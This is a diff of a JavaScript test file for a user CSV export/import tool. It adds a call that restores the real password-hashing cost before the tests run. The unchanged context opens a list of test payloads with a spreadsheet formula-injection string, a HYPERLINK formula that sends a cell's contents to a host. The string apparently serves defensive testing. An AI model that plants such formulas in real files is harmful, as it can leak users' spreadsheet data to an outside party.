@@ -5,7 +5,11 @@ import { csvLine } from '../../tools/users/csv.js';
 import { readRows } from '../../tools/users/user-file.js';
 import { cellsOf } from '../support/oracles/csv.js';
 import { startImports } from '../support/processes/imports.js';
+import { setRealPasswordCost } from '../support/service/password-cost.js';
 import { spawnTool } from '../support/processes/processes.js';
+
+// What is exported here is imported again, which takes no cheaper hashes.
+setRealPasswordCost();
 
 const payloads = [
   '=HYPERLINK("http://127.0.0.1/?"&A1;"x")',
